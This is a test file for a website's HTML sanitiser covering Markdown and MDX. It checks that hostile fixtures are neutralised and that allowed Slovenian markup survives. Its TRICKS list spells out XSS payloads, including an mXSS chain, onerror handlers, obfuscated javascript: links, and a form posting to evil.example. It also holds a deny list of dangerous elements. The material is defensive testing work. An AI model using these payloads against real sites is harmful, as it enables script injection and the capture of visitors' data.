import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { compile, nodeTypes } from '@mdx-js/mdx';
import { parseFragment, type DefaultTreeAdapterMap } from 'parse5';
import { find, html } from 'property-information';
import rehypeRaw from 'rehype-raw';
import rehypeStringify from 'rehype-stringify';
import remarkGfm from 'remark-gfm';
import remarkMdx from 'remark-mdx';
import remarkParse from 'remark-parse';
import remarkRehype from 'remark-rehype';
import { unified, type PluggableList } from 'unified';
import { describe, expect, it } from 'vitest';
import { splitBody } from '../../src/cli/body-check';
import { rehypeSafeHtml } from '../../src/lib/rehype-safe-html';
import { GLOBAL_ATTRIBUTES, MDX_COMPONENTS, STAFF_HTML } from '../../src/lib/safe-html';
import { ALLOWED_FILES, HOSTILE_CASES } from '../fixtures/hostile/cases';

const root = fileURLToPath(new URL('../..', import.meta.url));
const fixtures = join(root, 'tests/fixtures/hostile/pages/sl');
const bodyOf = (file: string) => splitBody(readFileSync(join(fixtures, file), 'utf8')).body;

/**
 * A Markdown body through the site's pipeline: Astro runs our rehype plugins before its own
 * rehype-raw (@astrojs/markdown-remark); `rawFirst` parses the HTML before the sanitiser instead,
 * as a plugin placed after rehype-raw would see it. Both must be safe.
 */
function markdownToHtml(body: string, { rawFirst = false, sanitise = true } = {}): string {
  const rehype: PluggableList = !sanitise ? [rehypeRaw] : rawFirst ? [rehypeRaw, rehypeSafeHtml] : [rehypeSafeHtml, rehypeRaw];
  return String(
    unified()
      .use(remarkParse)
      .use(remarkGfm)
      .use(remarkRehype, { allowDangerousHtml: true })
      .use(rehype)
      .use(rehypeStringify)
      .processSync(body),
  );
}

/** An MDX body as Astro's MDX processor treats it before its own plugins: HTML parsed, MDX nodes passed through. */
function mdxToHtml(body: string): string {
  const processor = unified()
    .use(remarkParse)
    .use(remarkMdx)
    .use(remarkGfm)
    .use(remarkRehype, { allowDangerousHtml: true, passThrough: [...nodeTypes] })
    .use(rehypeRaw, { passThrough: [...nodeTypes] })
    .use(rehypeSafeHtml);
  const tree = processor.runSync(processor.parse(body));
  const left = JSON.stringify(tree).match(/"type":"mdx\w+"/g) ?? [];
  expect(left, 'MDX nodes left after the sanitiser').toEqual([]);
  return unified().use(rehypeStringify).stringify(tree);
}

const htmlOf = (file: string) => (file.endsWith('.mdx') ? mdxToHtml(bodyOf(file)) : markdownToHtml(bodyOf(file)));

/** Elements that must never reach a page, whatever the allow-list says (written out here on purpose). */
const NEVER = new Set([
  'script',
  'style',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'applet',
  'form',
  'input',
  'button',
  'select',
  'textarea',
  'meta',
  'link',
  'base',
  'svg',
  'math',
  'template',
  'noscript',
  'audio',
  'video',
  'source',
  'picture',
  'canvas',
  'title',
]);
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'srcset',
  'poster',
  'data',
  'background',
  'cite',
  'longdesc',
  'ping',
]);
/** Where a browser would fetch from without a click: only this site's files may be there. */
const FETCHED = new Set(['src', 'srcset', 'poster', 'data', 'background']);

/**
 * What in a piece of HTML could run code, load from another host, send the visitor away or
 * restyle the page; empty when it is safe. Read with parse5, as a browser would read it.
 */
function dangers(output: string): string[] {
  const found: string[] = [];
  type Node = DefaultTreeAdapterMap['childNode'];
  const walk = (nodes: readonly Node[]) => {
    for (const node of nodes) {
      if (!('tagName' in node)) continue;
      if (NEVER.has(node.tagName)) found.push(`<${node.tagName}>`);
      for (const { name, value } of node.attrs) {
        // Browsers drop tabs and newlines from URLs and trim spaces and control characters.
        // eslint-disable-next-line no-control-regex -- the URL parser strips C0 controls and space; so must this model of it
        const url = value.replace(/[\t\n\r]/g, '').replace(/^[\u0000-\u0020]+/, '');
        if (/^on/i.test(name)) found.push(`${node.tagName} ${name}`);
        else if (name === 'style') found.push(`${node.tagName} style`);
        else if (URL_ATTRIBUTES.has(name) && /^[a-z][a-z\d+.-]*:/i.test(url) && !/^(?:https?|mailto|tel):/i.test(url))
          found.push(`${node.tagName} ${name}=${value}`);
        else if (FETCHED.has(name) && (/^[a-z][a-z\d+.-]*:|^\/\//i.test(url) || /\.svgz?(?:[?#]|$)/i.test(url)))
          found.push(`${node.tagName} ${name}=${value}`);
      }
      walk(node.childNodes);
      // A template's children live in its own document fragment.
      if ('content' in node) walk(node.content.childNodes);
    }
  };
  walk(parseFragment(output).childNodes);
  return found;
}

describe('the sanitiser over the hostile fixtures', () => {
  it.each(HOSTILE_CASES.filter(({ file }) => file.endsWith('.md')))(
    'would let something of $file through without it (so the danger test can fail)',
    ({ file }) => {
      expect(dangers(markdownToHtml(bodyOf(file), { sanitise: false }))).not.toEqual([]);
    },
  );

  it.each(HOSTILE_CASES)('leaves nothing dangerous of $file ($attack), and keeps its harmless sentence', ({ file }) => {
    const output = htmlOf(file);
    expect(dangers(output), output).toEqual([]);
    expect(output).toContain('Ta stavek ostane');
  });

  it.each(HOSTILE_CASES.filter(({ file }) => file.endsWith('.md')))(
    'is just as safe on $file when the HTML is parsed before it',
    ({ file }) => {
      const output = markdownToHtml(bodyOf(file), { rawFirst: true });
      expect(dangers(output), output).toEqual([]);
    },
  );

  it('removes the hostile words themselves, not only the elements around them', () => {
    const everything = HOSTILE_CASES.map(({ file }) => htmlOf(file)).join('\n');
    for (const word of [
      '__pwned',
      'alert(',
      'evil.example',
      'tracker.example',
      'javascript',
      'writeFileSync',
      'display: none',
      'position:fixed',
    ]) {
      expect(everything, word).not.toContain(word);
    }
  });

  it('compiles MDX without the import, export, expressions or component it was given', async () => {
    for (const file of ['mdx-import.mdx', 'mdx-export.mdx', 'mdx-expression.mdx', 'mdx-component.mdx', 'mdx-html.mdx']) {
      // Astro's MDX order: rehype-raw with MDX passed through, then the configured rehype plugins.
      const code = String(
        await compile(bodyOf(file), {
          rehypePlugins: [[rehypeRaw, { passThrough: [...nodeTypes] }], rehypeSafeHtml],
          jsxImportSource: 'astro',
        }),
      );
      for (const word of [
        'node:fs',
        'writeFileSync',
        'getBuiltinModule',
        'getFullYear',
        'Tracker',
        'onClick',
        'alert',
        '__pwned',
        'evil.example',
        'tracker.example',
      ]) {
        expect(code, `${file}: ${word}`).not.toContain(word);
      }
    }
  });
});

describe('the sanitiser over tricks the fixtures do not spell out', () => {
  const TRICKS: [string, string][] = [
    [
      'an mXSS through math and style',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    ],
    ['a closing noscript inside an attribute', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['a script inside a template', '<template><script>alert(1)</script></template>'],
    ['an event on an allowed element', '<details open ontoggle="alert(1)"><summary onclick="alert(2)">Q</summary></details>'],
    ['an allowed image path with an event handler', '![a](../../images/a.jpg) <img src="../../images/a.jpg" onerror="alert(1)">'],
    ['a javascript: link written with &colon;', '<a href="javascript&colon;alert(1)">x</a>'],
    ['a link with a newline character reference', '[x](java&#10;script:alert(1))'],
    ['a form inside a table', '| a |\n| - |\n| <form action="https://evil.example"><input name=p></form> |'],
    [
      'a srcset and a poster from another host',
      '<img srcset="https://tracker.example/a.gif 1x"> <video poster="https://tracker.example/p.gif"></video>',
    ],
    ['an object with data', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">'],
    ['an unclosed textarea swallowing the rest', '<textarea>\n\nBesedilo.'],
    ['a link tag loading a stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['an id clobbering a global', '<span id="__pwned" name="location">x</span>'],
  ];

  it.each(TRICKS)('is safe against %s', (_name, body) => {
    const output = markdownToHtml(body);
    expect(dangers(output), output).toEqual([]);
    expect(output).not.toMatch(/alert|evil\.example|tracker\.example|__pwned/);
  });
});

describe('what the sanitiser keeps', () => {
  it.each(ALLOWED_FILES)('keeps everything allowed in %s', (file) => {
    const output = htmlOf(file);
    expect(dangers(output)).toEqual([]);
    for (const kept of [
      '<abbr title="Evropska solidarnostna enota">ESE</abbr>',
      '<mark>do 31. marca</mark>',
      'CO<sub>2</sub>',
      '<span lang="en">European Solidarity Corps</span>',
      '<summary>Kdo se lahko prijavi?</summary>',
      'src="../../images/skupina.png"',
      'href="/projekti/"',
      'href="https://youth.europa.eu/solidarity_en"',
    ]) {
      expect(output, kept).toContain(kept);
    }
  });

  it('keeps the rest of Markdown: line breaks, languages, tables, footnotes, links of every kind', () => {
    const output = htmlOf('allowed.md');
    for (const kept of [
      '<kbd>Enter</kbd>',
      '<br>',
      '<p lang="en">',
      '<details open>',
      '<th align="right">',
      '<del>prečrtanim</del>',
      '<code>kodo</code>',
      'href="#user-content-fn-1" id="user-content-fnref-1"',
      '<li id="user-content-fn-1">',
      'href="mailto:info@example.org"',
      'href="tel:+38610000000"',
      'href="#formule-in-tipke"',
    ]) {
      expect(output, kept).toContain(kept);
    }
  });

  it('drops what staff cannot see anyway: HTML comments', () => {
    expect(htmlOf('allowed.md')).not.toContain('Opomba za urednike');
  });

  it('uses HTML attribute names for what staff may write, so HTML and JSX are read alike', () => {
    const names = [...Object.values(STAFF_HTML).flatMap((element) => element.attributes), ...GLOBAL_ATTRIBUTES].map((rule) =>
      typeof rule === 'string' ? rule : rule[0],
    );
    for (const name of names) expect(find(html, name).property).toBe(name);
  });

  it('drops every MDX component, because the site offers none (extend rehype-safe-html.ts to keep one first)', () => {
    expect(Object.keys(MDX_COMPONENTS)).toEqual([]);
    expect(mdxToHtml('<Callout type="info">Besedilo</Callout>\n\nOstane.').trim()).toBe('<p>Ostane.</p>');
  });
});
